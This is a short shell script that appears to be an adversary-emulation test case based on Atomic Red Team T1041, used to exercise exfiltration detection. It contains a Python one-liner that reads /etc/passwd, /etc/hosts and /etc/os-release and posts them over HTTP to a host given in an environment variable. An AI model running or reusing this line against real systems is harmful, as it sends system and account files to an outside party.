#!/bin/sh
# case: T1041-python-post
# technique: Files posted by an interpreter to the peer that it has
# source: redcanaryco/atomic-red-team T1041-1 C2 Data Exfiltration
# needs: python3
# expect: net file exec
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need python3
[ -n "${HO_SINK:-}" ] || exit 77
python3 -c 'import urllib.request as u,sys,glob
for f in ("/etc/passwd","/etc/hosts","/etc/os-release"): u.urlopen(u.Request("http://"+sys.argv[1]+"/c",open(f,"rb").read()),timeout=4).read()' "$HO_SINK"
exit 0
